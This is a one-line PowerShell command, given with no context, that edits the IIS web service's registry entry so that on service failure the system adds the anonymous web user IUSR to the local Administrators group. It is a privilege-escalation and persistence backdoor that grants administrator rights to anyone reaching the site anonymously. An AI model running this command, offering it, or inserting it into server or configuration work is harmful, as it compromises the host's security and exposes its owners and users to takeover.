Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Services\W3SVC -Name FailureCommand -Value 'net localgroup Administrators IUSR /add'
